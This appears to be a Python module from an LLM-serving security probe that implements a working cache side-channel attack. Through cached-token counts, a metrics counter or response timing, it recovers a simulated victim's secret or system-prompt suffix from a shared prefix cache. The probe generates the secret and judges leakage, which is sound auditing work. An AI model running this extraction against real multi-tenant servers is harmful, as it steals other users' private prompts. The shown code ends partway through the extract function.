"""``kvlab probe --extract``: the prompt-extraction attack on a shared prefix cache, run black-box.

The scenario. A simulated *victim* keeps sending ``prefix + secret``: the secret is a random string from a
small alphabet, new every run. The *attacker* knows the prefix and the alphabet (as it would know a
product's system prompt template) and recovers the secret from the left. For each candidate continuation
it sends ``prefix + recovered + candidate + FILLER`` and asks how much of its prompt the server found
cached: if the candidate is right, the hit reaches past the known part, because the victim's prompt put
exactly those tokens in the cache. The filler is one character outside the alphabet: a server never
counts the last prompt token as cached (its forward pass yields the first output), so without it the
candidate's own last character could never show up as a hit.

Channels, in the order a calibration with the attacker's own prompts admits them: the response's
``usage.prompt_tokens_details.cached_tokens``; the prefix-cache-hit counter of the server's /metrics
(``probe.metrics``, read around each attacker request, one at a time), when it is finer than the field,
since a server that hides or coarsens ``cached_tokens`` may count every hit there; TTFT otherwise. A count
reported in blocks of G tokens shows a hit only when the candidate completes a block, so one step guesses
every string up to the next boundary and gives up (``unreachable``) past ``max_candidates``; the simulated
victim's prefix is padded to put that boundary as far in as the budget reaches, because a probe must show
the worst case (``--prefix`` keeps your own layout). TTFT compares candidates by rank within repeats, so
slow drift between repeats cannot fake a winner, and one right character saves only one token of prefill,
often within an HTTP request's noise: expect ``inconclusive`` on a busy machine. Whether the victim's
*prefix* shows in TTFT at all is measured apart (an AUC against fresh prefixes of the same length).

The attacker's own guesses must not count as evidence. They are cached too, in the victim's tenant on a
server that shares between them (the case that matters). A per-request ``cache_salt`` would keep them
apart from the victim as well (the victim sends none), so instead every attacker prompt is
``prefix + s + FILLER`` with ``s`` over the alphabet: a candidate ``prefix + recovered + c`` could only be
matched by a guess whose alphabet part starts with ``recovered + c``, which earlier steps' guesses (no
longer than ``recovered``, then the filler) and this step's others (different inside ``c``) never have. So
a hit past ``recovered`` comes from the victim. For the same reason each TTFT repeat uses another victim
conversation, and the calibration prompts start with a character no prefix starts with. The victim
re-sends its prompt before every step and every ``victim_every`` attacker requests, so the attacker's own
traffic cannot have evicted it.

The probe made the secret, so ``decide`` checks what was recovered against chance (``alpha``); it says
``no leak`` only when a count channel was shown to work and no candidate of the first step hit, and
``inconclusive`` never claims safety.

Character = token holds for byte-level tokenizers (the mini model); on others, the positions are only
approximate and the report says so, and a character guess rarely lines up with a token (llama.cpp reports
cached tokens exactly and still gave nothing up to it).

This module's attack is the ``char`` strategy. ``kvlab.probe.strategies`` holds the others and chooses among
them from what the calibration measured (``ExtractConfig.strategy`` forces one): ``token`` guesses the
server's own tokens where hits are counted exactly, ``dictionary`` guesses whole low-entropy secrets where
they show only in blocks, ``membership`` asks whether a whole prompt is cached (with the three sends that
popularity promotion gives away). They share this module's traffic (``_Attack``: the victim's re-sends, the
request counts, the channel) and report (``ExtractReport``, with the fields they add).
"""

from __future__ import annotations

import itertools
import math
import random
import statistics
import string
import time
import uuid
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field, replace
from typing import TYPE_CHECKING, Any, Protocol

from kvlab.openai_http import cached_tokens_of
from kvlab.probe.client import DEFAULT_TIMEOUT, ProbeClient, ProbeError, find_tokenizer
from kvlab.probe.metrics import find_metrics, metered, own_hit
from kvlab.probe.progress import Phases, ProgressCallback, Tick, no_tick
from kvlab.probe.timing import auc, midranks

if TYPE_CHECKING:
    from kvlab.probe.strategies.tokens import TokenizerAccess

DEFAULT_ALPHABET = "abcdefghijklmnop"
# The character calibration's conclusion where a non-byte-level tokenizer hides single characters; a strategy
# that then calibrates in tokens drops it and keeps what was found (strategies.tokens).
CHAR_ATTACK_FALLBACK = (
    ", which the character attack cannot arrange: falling back to TTFT (the answers probe's timing runs read this "
    "channel directly)"
)
# The TTFT channel's known prefixes, and the fresh ones they are timed against, are made of these words.
PREFIX_WORDS = ("please", "keep", "the", "following", "access", "code", "private", "and", "never", "repeat")
# The filler is the first of these that the alphabet lacks.
FILLERS = "#~|^`@"
# The calibration prompt's cached lengths: the gcd of their floors to any block size up to 128 is that block
# size, and one even length among odd ones tells blocks of 2 from a server that reports one token short.
CALIBRATION_LENGTHS = (37, 45, 50, 53, 61, 99, 137)
CALIBRATION_START = "{"  # no victim prefix starts with it, so calibration entries never meet the victim's
TTFT_PREFIX_CHARS = 400  # long enough that a prefix hit is visible in TTFT on a CPU model
MAX_SECRET_CHARS = 64  # the attacker stops here even if every step keeps hitting
VERDICTS = ("leak", "no leak", "inconclusive")
COUNT_CHANNELS = ("cached_tokens", "metrics")  # the channels that count hit tokens (TTFT only times them)


@dataclass(frozen=True)
class Reply:
    cached_tokens: int | None  # None: the server did not report it
    prompt_tokens: int | None
    seconds: float  # latency of the (1-token) request: the TTFT
    counter_hits: int | None = None  # how far the /metrics hit counter moved around it; None: not read


Prompt = str | Sequence[int]  # text, or token ids (the token and dictionary strategies send ids)


@dataclass(frozen=True)
class Ranked:
    """The model's next tokens after a prompt, most likely first, as the server's ``logprobs`` gave them."""

    sampled: int | None  # the id of the token the request generated, where the server says
    top: tuple[tuple[int | None, str], ...]  # (id where given, text)


class Sender(Protocol):
    """One identity (API key) sending 1-token, temperature-0 completions."""

    def send(self, prompt: Prompt) -> Reply: ...


class HttpSender:
    """``salt``: a ``cache_salt`` sent with every request (the victim's or the attacker's own)."""

    def __init__(self, client: ProbeClient, salt: str | None = None) -> None:
        self.client = client
        self.salt = salt

    def send(self, prompt: Prompt) -> Reply:
        data, seconds = self._complete(prompt)
        usage: dict[str, Any] = data["usage"] if isinstance(data.get("usage"), dict) else {}
        prompt_tokens = usage.get("prompt_tokens")
        # cached_tokens_of also reads llama.cpp's timings.cache_n, so the attack works there too.
        return Reply(cached_tokens_of(data), prompt_tokens if isinstance(prompt_tokens, int) else None, seconds)

    def _complete(self, prompt: Prompt, **extra: Any) -> tuple[dict[str, Any], float]:
        return self.client.completion(prompt, 1, salt=self.salt, **extra)

    def top_tokens(self, prompt: Prompt, k: int = 20) -> Ranked | None:
        """The ``k`` likeliest next tokens by the server's ``logprobs`` (None: it gives none). Reads OpenAI's
        legacy shape (kvlab, vLLM: ``top_logprobs[0]`` as ``{text: logprob}``) and the chat-like one
        (llama.cpp: ``content[0].top_logprobs`` as a list with ids)."""
        try:
            data, _ = self._complete(prompt, logprobs=k)
        except ProbeError:
            return None
        choices = data.get("choices")
        choice = choices[0] if isinstance(choices, list) and choices and isinstance(choices[0], dict) else {}
        ids = choice.get("token_ids")
        sampled = ids[0] if isinstance(ids, list) and ids and isinstance(ids[0], int) else None
        return parse_top_logprobs(choice.get("logprobs"), sampled)


def parse_top_logprobs(lp: Any, sampled: int | None = None) -> Ranked | None:
    """``Ranked`` from a completion choice's ``logprobs`` (either shape ``HttpSender.top_tokens`` reads)."""
    entries: list[tuple[float, int | None, str]] = []
    if isinstance(lp, dict) and isinstance(lp.get("top_logprobs"), list) and lp["top_logprobs"]:
        first = lp["top_logprobs"][0]
        if isinstance(first, dict):
            entries = [(float(v), None, str(t)) for t, v in first.items() if isinstance(v, int | float)]
    elif isinstance(lp, dict) and isinstance(lp.get("content"), list) and lp["content"]:
        first = lp["content"][0]
        tops = first.get("top_logprobs") if isinstance(first, dict) else None
        for e in tops if isinstance(tops, list) else []:
            if isinstance(e, dict) and isinstance(e.get("logprob"), int | float):
                tid = e.get("id")
                entries.append((float(e["logprob"]), tid if isinstance(tid, int) else None, str(e.get("token", ""))))
        if sampled is None and isinstance(first, dict) and isinstance(first.get("id"), int):
            sampled = first["id"]
    if not entries:
        return None
    entries.sort(key=lambda e: -e[0])
    return Ranked(sampled, tuple((tid, text) for _, tid, text in entries))


@dataclass
class ExtractConfig:
    alphabet: str = DEFAULT_ALPHABET
    secret: str | None = None  # None: random, ``secret_length`` characters of the alphabet
    secret_length: tuple[int, int] = (8, 12)
    prefix: str | None = None  # None: a fresh one, padded to the layout best for the attacker
    max_candidates: int = 256  # char strategy: guesses one step may take (it guesses up to the next boundary)
    # Attacker and victim requests the attack may send in all, its calibration apart: the token strategy tries
    # every candidate of a step within it, the dictionary strategy guesses a candidate set that fits in it.
    max_requests: int = 16_000
    max_seconds: float | None = None  # a time bound besides (None: the request budget alone bounds the attack)
    # The token strategy's local model for its candidates' order (strategies.priors): None, the served model's
    # name where kvlab can load it; "none": no local model.
    prior_model: str | None = None
    ttft_repeats: int = 7
    ttft_alpha: float = 0.01  # p-value of the rank test below which a TTFT step picks its winner
    victim_every: int = 16  # the victim re-sends after this many attacker requests
    alpha: float = 0.01  # a recovery counts as a leak when guessing would match it with at most this chance
    seed: int | None = None  # fixes the secret and the guessing order; prefixes get a fresh id every run
    # The strategy (kvlab.probe.strategies): auto | char | token | dictionary | membership.
    strategy: str = "auto"
    # dictionary: the candidate secrets (a file's lines); None: every string of the alphabet of secret_length.
    dictionary: tuple[str, ...] | None = None
    # membership: whole prompts, one of which the victim sends; None: the victim's prompt and ``decoys`` others.
    candidates: tuple[str, ...] | None = None
    decoys: int = 7
    membership_rounds: int = 3  # generated candidates: fresh victim prompt and decoys each round
    tokenizer: str | None = None  # a local copy of the server's tokenizer (kvlab model name or path)
    attacker_salt: str | None = None  # a cache_salt on every attacker request (run_extract)
    victim_salt: str | None = None  # a cache_salt on every victim request (run_extract)

    def validate(self) -> None:
        a = self.alphabet
        if len(a) < 2 or len(set(a)) != len(a) or not all(c in string.printable and not c.isspace() for c in a):
            raise ValueError(f"the alphabet must be 2 or more distinct printable characters, got {a!r}")
        if all(f in a for f in FILLERS):
            raise ValueError(f"the alphabet must leave out one of {FILLERS!r} (the filler)")
        from kvlab.probe.strategies import STRATEGIES, validate_strategy_config

        if self.strategy not in STRATEGIES:
            raise ValueError(f"strategy must be one of {', '.join(STRATEGIES)}, got {self.strategy!r}")
        validate_strategy_config(self)
        alphabet_secret = self.dictionary is None and self.candidates is None and self.secret is not None
        if alphabet_secret and (not self.secret or any(c not in a for c in (self.secret or ""))):
            raise ValueError(f"the secret must be non-empty and drawn from the alphabet {a!r}")
        lo, hi = self.secret_length
        if not 1 <= lo <= hi:
            raise ValueError(f"secret_length must be 1 <= min <= max, got {self.secret_length}")
        alphas_ok = 0 < self.alpha < 1 and 0 < self.ttft_alpha < 1
        if self.max_candidates < 1 or self.ttft_repeats < 2 or self.victim_every < 1 or not alphas_ok:
            raise ValueError("max_candidates >= 1, ttft_repeats >= 2, victim_every >= 1 and alphas in (0, 1) required")
        if self.max_requests < 1:
            raise ValueError(f"max_requests must be >= 1, got {self.max_requests}")
        if self.max_seconds is not None and not self.max_seconds > 0:
            raise ValueError(f"max_seconds must be > 0 (or None: no time bound), got {self.max_seconds}")


@dataclass
class Step:
    position: int  # index in the secret of the first character guessed
    width: int  # characters guessed jointly (up to the next reporting boundary)
    candidates: int
    tried: int
    outcome: str  # recovered | no hit | unreachable | inconclusive
    guess: str | None = None
    correct: bool | None = None  # checked against the secret the probe made
    detail: str = ""


@dataclass
class Candidate:
    """One membership candidate: the cached tokens of its sends and what they show."""

    round: int
    label: str  # "victim" | "decoy N" | "line N" (a --candidates file)
    prompt_chars: int
    sends: list[int] = field(default_factory=list)  # reported hits of each send (1 to 3)
    signal: str = "none"  # hit | promoted | none | uninformative
    truth: bool = False  # is it the victim's prompt? (the probe knows)


@dataclass
class ExtractReport:
    base_url: str
    model: str
    alphabet: str
    secret: str
    prefix_chars: int
    channel: str = ""  # cached_tokens | metrics | ttft
    granularity: int | None = None  # of the channel's hit counts (cached_tokens or /metrics); 1 = exact
    metrics: str = "not checked"  # what /metrics showed the attacker (MetricsCheck.summary)
    calibration: dict[str, Any] = field(default_factory=dict)
    prefix_visible: bool | None = None  # does the victim's known prefix hit for the attacker?
    prefix_hit_tokens: int | None = None
    prefix_ttft_auc: float | None = None
    recovered: str = ""  # what the attacker believes
    correct_chars: int = 0  # leading characters of ``recovered`` that are right
    chance: float = 1.0  # probability of guessing the correct part
    attacker_requests: int = 0
    victim_requests: int = 0
    requests_to_recover: int | None = None  # both parties, until the last correct character was recovered
    seconds: float = 0.0
    verdict: str = "inconclusive"
    reason: str = ""
    steps: list[Step] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    # The strategy that ran (kvlab.probe.strategies) and what it measured beyond the fields above.
    strategy: str = "char"
    strategy_reason: str = ""  # why auto chose it (or "forced by --strategy")
    tokenizer: str = ""  # where the token view came from (server /tokenize, a local copy), "" when unused
    tokenizer_requests: int = 0  # to /tokenize and /detokenize (they touch no cache)
    unit: str = "characters"  # what ``granularity`` and ``prefix_hit_tokens`` count: characters = bytes, or tokens
    tokens_recovered: int = 0  # token strategy: correct tokens recovered
    requests_per_token: float | None = None  # token strategy: attacker requests per correct token
    candidates: int | None = None  # dictionary / membership: size of the candidate set
    membership: list[Candidate] = field(default_factory=list)  # membership: every candidate's sends

    def to_json(self) -> dict[str, Any]:
        return asdict(self)

    @property
    def channel_label(self) -> str:
        if self.channel not in COUNT_CHANNELS:
            return "TTFT (time to first token; cached_tokens not usable)"
        name = "cached_tokens" if self.channel == "cached_tokens" else "the /metrics prefix-cache-hit counter"
        return f"{name}, exact" if self.granularity == 1 else f"{name}, blocks of {self.granularity}"


# ------------------------------------------------------------------ pure pieces
def infer_granularity(lengths: Sequence[int], reported: Sequence[int | None]) -> int | None:
    """The G for which every report is floor(length / G) * G, or None (no hit at all, or irregular)."""
    values = [r for r in reported if r]
    if not values or len(reported) != len(lengths) or any(r is None for r in reported):
        return None
    g = math.gcd(*values)
    return g if all(r == (n // g) * g for n, r in zip(lengths, reported, strict=True)) else None


def next_width(known: int, granularity: int) -> int:
    """Characters from ``known`` to the next reporting boundary; a whole block when already on one."""
    return granularity - known % granularity


def max_width(alphabet_size: int, budget: int) -> int:
    """The most characters one step can guess jointly within ``budget`` candidates (0: not even one)."""
    width = 0
    while alphabet_size ** (width + 1) <= budget:
        width += 1
    return width


def aligned_length(base: int, granularity: int, width: int) -> int:
    """The shortest prefix length >= ``base`` and >= one block after which ``width`` characters end a block:
    the secret's first step then guesses exactly ``width`` characters, and the prefix alone is a visible hit."""
    n = max(base, granularity)
    return n + (-(n + width)) % granularity


def chance_of(steps: Sequence[Step], correct_chars: int) -> float:
    """The probability of guessing the first ``correct_chars`` characters: 1 / candidates per step."""
    p, done = 1.0, 0
    for s in steps:
        if s.outcome != "recovered" or done >= correct_chars:
            break
        p /= s.candidates
        done += s.width
    return p


def tokens(text: str) -> int:
    """Token count under a byte-level tokenizer (the mini model's); the alphabet is ASCII, a prefix may not be."""
    return len(text.encode())


def common_prefix(a: str, b: str) -> int:
    n = 0
    while n < min(len(a), len(b)) and a[n] == b[n]:
        n += 1
    return n


def decide(report: ExtractReport, alpha: float) -> tuple[str, str]:
    """The verdict and its reason, from the steps and the secret."""
    n, k = len(report.secret), report.correct_chars
    wrong = [s for s in report.steps if s.outcome == "recovered" and not s.correct]
    last = report.steps[-1] if report.steps else None
    if k and report.chance <= alpha:
        rest = f"; the rest is out of reach: {last.detail}" if last and last.outcome == "unreachable" else ""
        return "leak", (
            f"recovered {k} of {n} characters of the victim's secret through {report.channel_label}; "
            f"guessing would get them right with probability {report.chance:.2g}{rest}"
        )
    first = report.steps[0] if report.steps else None
    if report.channel in COUNT_CHANNELS and not report.recovered and first is not None and first.outcome == "no hit":
        seen = {True: "is visible to", False: "is hidden from", None: "was not checked for"}[report.prefix_visible]
        return "no leak", (
            f"all {first.tried} candidates for the secret's first {first.width} character(s) were "
            f"indistinguishable (none hit past the known prefix; the prefix itself {seen} the attacker)"
        )
    if wrong:
        why = f"the channel singled out a wrong guess at position {wrong[0].position}: its hits are noise"
    elif k:
        why = f"recovered {k} character(s), but a guess is right with probability {report.chance:.2g} > {alpha}"
    elif first is None:
        why = "no step could run"
    else:
        why = f"step at position {first.position}: {first.detail}"
    if last is not None and last.outcome == "unreachable" and k:
        why += f"; the rest is out of reach: {last.detail}"
    return "inconclusive", why + " (not a proof of safety)"


# ------------------------------------------------------------------ the attack
class _Attack:
    """The run's state: both parties, the request counts, the report."""

    def __init__(
        self,
        attacker: Sender,
        victim: Sender,
        cfg: ExtractConfig,
        report: ExtractReport,
        token_count: Callable[[str], int | None] | None = None,
        counter: Callable[[], float | None] | None = None,
        on_step: Tick = no_tick,
        ranker: Callable[[Prompt], Ranked | None] | None = None,
    ) -> None:
        self.on_step = on_step  # after every step of the attack (the probe's progress)
        self.token_count = token_count
        self.counter = counter  # the /metrics hit counter; dropped once the calibration chose another channel
        self.hit_counter = counter  # kept for a strategy that calibrates again in tokens
        self.ranker = ranker  # the server's logprobs, where it gives them (the token strategy's order)
        self.attacker, self.victim, self.cfg, self.report = attacker, victim, cfg, report
        self.rng = random.Random(cfg.seed)
        self.filler = next(f for f in FILLERS if f not in cfg.alphabet)
        self.victim_prompts: list[str] = []
        self.since_victim = 0
        self.run_id = uuid.uuid4().hex[:12]  # fresh whatever the seed: a re-run must not meet old entries
        self.deadline = None if cfg.max_seconds is None else time.monotonic() + cfg.max_seconds

    # -- traffic
    def budget_left(self) -> int:
        """Requests the attack may still send (``ExtractConfig.max_requests`` less both parties' so far; none
        once ``ExtractConfig.max_seconds`` have passed)."""
        if self.deadline is not None and time.monotonic() >= self.deadline:
            return 0
        return self.cfg.max_requests - self.report.attacker_requests - self.report.victim_requests

    def budget_spent(self) -> str:
        """Which budget ``budget_left`` found spent, as a report says it."""
        if self.deadline is not None and time.monotonic() >= self.deadline:
            return f"the time budget (--max-seconds {self.cfg.max_seconds:g})"
        return f"the request budget (--max-requests {self.cfg.max_requests})"

    def resend_victims(self) -> None:
        for prompt in self.victim_prompts:
            self.victim_send(prompt)
        self.since_victim = 0

    def victim_send(self, prompt: str) -> None:
        reply = self.victim.send(prompt)
        self.report.victim_requests += 1
        if reply.prompt_tokens is not None and reply.prompt_tokens != tokens(prompt):
            self._note_tokenizer()

    def attack(self, prompt: Prompt, resend: bool = True) -> Reply:
        """One attacker request; the victim re-sends first when due, unless ``resend`` is False (a sequence of
        sends that the victim's traffic must not come between, as the membership strategy's)."""
        if resend and self.since_victim >= self.cfg.victim_every:
            self.resend_victims()
        self.report.attacker_requests += 1
        self.since_victim += 1
        if self.counter is None:
            return self.attacker.send(prompt)
        # Read after the victim's re-sends: the delta is this request's own hits.
        reply, delta = metered(self.counter, lambda: self.attacker.send(prompt))
        return replace(reply, counter_hits=delta)

    def rank(self, prompt: Prompt) -> Ranked | None:
        """The server's likeliest next tokens after ``prompt`` (an attacker request too), or None."""
        if self.ranker is None:
            return None
        self.report.attacker_requests += 1
        self.since_victim += 1
        got = self.ranker(prompt)
        if got is None:  # refused, or no logprobs in the answer: not asked again
            self.ranker = None
            self.report.notes.append("the server gives no logprobs: guesses follow the fixed order")
        return got

    def hits(self, reply: Reply) -> int:
        """The hit tokens the chosen channel shows for ``reply``."""
        return (reply.counter_hits if self.report.channel == "metrics" else reply.cached_tokens) or 0

    def _note_tokenizer(self) -> None:
        note = "the tokenizer is not byte-level: character positions are only approximately token positions"
        if note not in self.report.notes:
            self.report.notes.append(note)

    def candidates(self, width: int) -> Iterator[str]:
        """Every string of ``width`` alphabet characters, in a random order (no bias for a fixed secret)."""
        pool = ["".join(t) for t in itertools.product(self.cfg.alphabet, repeat=width)]
        self.rng.shuffle(pool)
        return iter(pool)

    def recovered_step(self, step: Step) -> None:
        """Record a hit; it is checked against the secret (the probe's own) for the verdict."""
        secret = self.report.secret
        assert step.guess is not None
        step.correct = secret[step.position : step.position + step.width] == step.guess
        self.report.recovered += step.guess
        if step.correct and self.report.correct_chars == step.position:
            self.report.correct_chars += step.width
            self.report.requests_to_recover = self.report.attacker_requests + self.report.victim_requests

    # -- calibration
    def calibrate(self) -> None:
        """Cache one long fresh prompt, then ask for its prefixes: their reports give the channel and G."""
        body = "".join(self.rng.choice(string.ascii_letters + string.digits) for _ in range(max(CALIBRATION_LENGTHS)))
        base = CALIBRATION_START + self.run_id + body
        reported: list[int | None] = []
        counted: list[int | None] = []
        for n in CALIBRATION_LENGTHS:
            # Cached again before every question: a server that keeps only each slot's last prompt (llama.cpp)
            # would otherwise answer against the previous question instead of the long prompt.
            self.attack(base + "!")
            reply = self.attack(base[:n] + "?")
            reported.append(reply.cached_tokens)
            counted.append(reply.counter_hits)
        g = infer_granularity(CALIBRATION_LENGTHS, reported)
        self.report.calibration = {"cached_lengths": list(CALIBRATION_LENGTHS), "reported": reported}
        if self.counter is not None:
            self.report.calibration["counted"] = counted
            if self._choose_counter(infer_granularity(CALIBRATION_LENGTHS, counted), g):
                return
        self.counter = None  # not the channel: two /metrics reads per request would only slow the attack
        self.report.granularity = g
        if g is not None:
            self.report.channel = "cached_tokens"
            return
        self.report.channel = "ttft"
        if all(r is None for r in reported):
            self.report.notes.append("the server does not report cached_tokens: falling back to TTFT")
        elif not any(reported):
            self.report.notes.append(
                "cached_tokens is always 0, even for the attacker's own repeated prompts: falling back to TTFT"
            )
        elif (unit := self._token_unit([base[:n] for n in CALIBRATION_LENGTHS], reported)) is not None:
            self.report.notes.append(
                f"cached_tokens is {unit}, but the tokenizer is not byte-level: a one-character guess shows only "
                f"when it completes one of the victim's tokens{CHAR_ATTACK_FALLBACK}"
            )
        else:
            self.report.notes.append(f"cached_tokens reports follow no block size ({reported}): falling back to TTFT")

    def _choose_counter(self, counted: int | None, reported: int | None) -> bool:
        """Use the /metrics counter when it shows hits finer than cached_tokens does (or where that is absent)."""
        if counted is None or (reported is not None and counted >= reported):
            return False
        self.report.channel, self.report.granularity = "metrics", counted
        hidden = "not reported" if reported is None else f"reported in blocks of {reported}"
        unit = "exactly" if counted == 1 else f"in blocks of {counted}"
        self.report.notes.append(f"cached_tokens is {hidden}, but /metrics counts the hits {unit}: reading that")
        return True

    def _token_unit(self, prefixes: Sequence[str], reported: Sequence[int | None]) -> str | None:
        """Character lengths were asked; if token counts came back (a BPE server), what they count, said in
        words; None where the server has no tokenizer to check with, or the reports are not token counts."""
        counts = self._token_counts(prefixes)
        if counts is None:
            return None
        shown = f"({list(reported)} for prefixes of {counts} tokens by the server's /tokenize)"
        g = infer_granularity(counts, reported)
        if g is not None and g > 1:
            return f"in whole blocks of {g} tokens {shown}"
        if g == 1 or all(r is not None and abs(r - c) <= 2 for r, c in zip(reported, counts, strict=True)):
            return f"exact per token {shown}"
        return None

    def _token_counts(self, texts: Sequence[str]) -> list[int] | None:
        """Token counts of ``texts`` by the server's tokenizer, or None where it offers none."""
        if self.token_count is None:
            return None
        counts = [self.token_count(t) for t in texts]
        return None if any(c is None for c in counts) else [c or 0 for c in counts]

    # -- the cached_tokens channel
    def run_cached(self) -> None:
        cfg, g = self.cfg, self.report.granularity
        assert g is not None
        reach = max_width(len(cfg.alphabet), cfg.max_candidates)
        base = f"[{self.run_id}] Internal note for the assistant. The access code is: "
        if cfg.prefix is not None:
            prefix = cfg.prefix
        else:
            first = max(1, min(reach, g, len(self.report.secret)))
            pad = aligned_length(len(base), g, first) - len(base)
            prefix = base[:-2] + "." * pad + base[-2:]
        self.report.prefix_chars = len(prefix)
        self.victim_prompts = [prefix + self.report.secret]
        self.resend_victims()
        # Does the attacker see the victim's prefix at all? (Ends in the filler: no guess can match it.)
        shown = (tokens(prefix) // g) * g
        self.report.prefix_hit_tokens = self.hits(self.attack(prefix + self.filler))
        self.report.prefix_visible = (self.report.prefix_hit_tokens or 0) >= shown if shown else None
        while len(self.report.recovered) < MAX_SECRET_CHARS:
            step = self.cached_step(prefix, self.report.recovered, g)
            self.report.steps.append(step)
            self.on_step()
            if step.outcome != "recovered":
                break
            self.recovered_step(step)

    def cached_step(self, prefix: str, recovered: str, g: int) -> Step:
        known = tokens(prefix) + len(recovered)
        width = next_width(known, g)
        count = len(self.cfg.alphabet) ** width
        step = Step(len(recovered), width, count, 0, "no hit")
        if count > self.cfg.max_candidates:
            step.outcome = "unreachable"
            step.detail = (
                f"the next reporting boundary is {width} characters away: {len(self.cfg.alphabet)}**{width} joint "
                f"guesses exceed the budget of {self.cfg.max_candidates}"
            )
            return step
        self.resend_victims()
        for cand in self.candidates(width):
            step.tried += 1
            if self.hits(self.attack(prefix + recovered + cand + self.filler)) >= known + width:
                step.outcome, step.guess = "recovered", cand
                return step
        step.detail = f"none of the {count} candidates extended the cached prefix (end of the secret, or no sharing)"
        return step

    # -- the TTFT channel
    def ttft_prefixes(self) -> list[str]:
        """One known prefix per repeat: the same text after another conversation id."""
        text = " ".join(self.rng.choice(PREFIX_WORDS) for _ in range(TTFT_PREFIX_CHARS // 4))
        out = []
        for j in range(self.cfg.ttft_repeats):
            head = f"[{self.run_id}-{j}] "
            out.append(head + text[: TTFT_PREFIX_CHARS - len(head) - 2] + ": ")
        return out

    def ttft_visibility(self, prefixes: list[str]) -> None:
        """AUC of TTFT: the victim's prefixes (hits if shared) against fresh ones of the same length (misses)."""
        hits: list[float] = []
        misses: list[float] = []
        for p, victim in zip(prefixes, self.victim_prompts, strict=True):
            # Each pair right after its victim: the fresh prompts' blocks may have evicted the older victims.
            self.victim_send(victim)
            # The same kind of text as the victim's (the same words, another draw): random letters would cost a
            # BPE tokenizer two to three times the tokens, and their longer prefill would fake a visible hit.
            fresh = f"<{uuid.uuid4().hex}> " + " ".join(self.rng.choice(PREFIX_WORDS) for _ in range(len(p)))
            tests = [(True, p + self.filler), (False, fresh[: len(p)] + self.filler)]
            self.rng.shuffle(tests)
            for is_hit, prompt in tests:
                (hits if is_hit else misses).append(self.attack(prompt).seconds)
        self.report.prefix_ttft_auc = auc(hits, misses)
        self.report.prefix_visible = self.report.prefix_ttft_auc >= 0.9
        self.report.notes.append(
            f"victim prefix vs fresh prefix ({len(prefixes[0])} characters): median TTFT "
            f"{1000 * statistics.median(hits):.1f} vs {1000 * statistics.median(misses):.1f} ms, "
            f"AUC {self.report.prefix_ttft_auc:.2f}"
        )

    def run_ttft(self) -> None:
        prefixes = self.ttft_prefixes()
        self.report.prefix_chars = len(prefixes[0])
        self.victim_prompts = [p + self.report.secret for p in prefixes]
        self.resend_victims()
        self.ttft_visibility(prefixes)
        while len(self.report.recovered) < MAX_SECRET_CHARS:
            step = self.ttft_step(prefixes, self.report.recovered)
            self.report.steps.append(step)
            self.on_step()
            if step.outcome != "recovered":
                break
            self.recovered_step(step)

    def ttft_step(self, prefixes: list[str], recovered: str) -> Step:
        alphabet = self.cfg.alphabet
        step = Step(len(recovered), 1, len(alphabet), len(alphabet), "inconclusive")
        self.resend_victims()
        repeats: list[dict[str, float]] = []
        for p in prefixes:  # candidates interleaved within a repeat: drift hits all of them alike
            repeats.append({c: self.attack(p + recovered + c + self.filler).seconds for c in self.candidates(1)})
        best, p_value = rank_test(repeats, self.rng)
        medians = {c: statistics.median(r[c] for r in repeats) for c in alphabet}
        fastest = ", ".join(f"{c}:{1000 * m:.2f}" for c, m in sorted(medians.items(), key=lambda kv: kv[1])[:4])
        step.detail = (
            f"candidate {best!r} is fastest by rank over {len(repeats)} repeats with p = {p_value:.3g} "
            f"(needs <= {self.cfg.ttft_alpha}); median TTFT ms {fastest}"
        )
        if p_value <= self.cfg.ttft_alpha:
            step.outcome, step.guess = "recovered", best
        else:
            step.detail = "one cached character is within the timing noise: " + step.detail
        return step


def mid_ranks(values: dict[str, float]) -> dict[str, float]:
    """Rank of each key by value, 0 = smallest; tied values share their mean rank (no tie picks a winner)."""
    return {k: r - 1 for k, r in zip(values, midranks(list(values.values())), strict=True)}


def rank_test(repeats: Sequence[dict[str, float]], rng: random.Random, permutations: int = 2000) -> tuple[str, float]:
    """(the candidate with the lowest latency-rank sum over the repeats, its p-value). Null hypothesis: within
    each repeat the candidates' ranks are exchangeable; the statistic is the minimum rank sum over all
    candidates, so the p-value already pays for having picked the fastest one."""
    cands = sorted(repeats[0])
    ranks = [mid_ranks(rep) for rep in repeats]
    sums = {c: sum(r[c] for r in ranks) for c in cands}
    best = min(cands, key=sums.__getitem__)
    rows = [[r[c] for c in cands] for r in ranks]
    as_low = 0
    for _ in range(permutations):
        totals = [0.0] * len(cands)
        for row in rows:
            shuffled = rng.sample(row, len(row))
            totals = [t + v for t, v in zip(totals, shuffled, strict=True)]
        as_low += min(totals) <= sums[best] + 1e-9
    return best, (as_low + 1) / (permutations + 1)


def make_secret(cfg: ExtractConfig, rng: random.Random) -> str:
    """The victim's secret: ``cfg.secret``, else a random entry of the dictionary or of the candidate prompts,
    else a random string of the alphabet."""
    if cfg.secret is not None:
        return cfg.secret
    if cfg.dictionary is not None:
        return rng.choice(cfg.dictionary)
    if cfg.candidates is not None:
        return rng.choice(cfg.candidates)
    return "".join(rng.choice(cfg.alphabet) for _ in range(rng.randint(*cfg.secret_length)))


def extract(
    attacker: Sender,
    victim: Sender,
    cfg: ExtractConfig,
    *,
    base_url: str = "",
    model: str = "",
    token_count: Callable[[str], int | None] | None = None,
    counter: Callable[[], float | None] | None = None,
    on_step: Tick = no_tick,
    tokenizer: TokenizerAccess | None = None,
    ranker: Callable[[Prompt], Ranked | None] | None = None,
) -> ExtractReport:
    """Run the attack with these two identities; see the module docstring. ``token_count``: the server's
    tokenizer, where it offers one (only used to explain a token-exact cached_tokens on a BPE model);
    ``counter``: the server's prefix-cache-hit counter as the attacker reads it (/metrics), where it can;
    ``on_step``: called after every step (a guessed stretch of the secret); ``tokenizer``: the attacker's view
    of the server's tokenizer (the token and dictionary strategies; ``kvlab.probe.strategies.tokens``);
    ``ranker``: the server's next-token log-probabilities (the token strategy's guessing order)."""
    cfg.validate()
    t0 = time.perf_counter()
    if token_count is None and tokenizer is not None:
        token_count = tokenizer.count
    secret = make_secret(cfg, random.Random(None if cfg.seed is None else cfg.seed + 1))
    report = ExtractReport(base_url, model, cfg.alphabet, secret, 0)
    from kvlab.probe.strategies import run_strategy

    run = _Attack(attacker, victim, cfg, report, token_count, counter, on_step, ranker)
    run.calibrate()
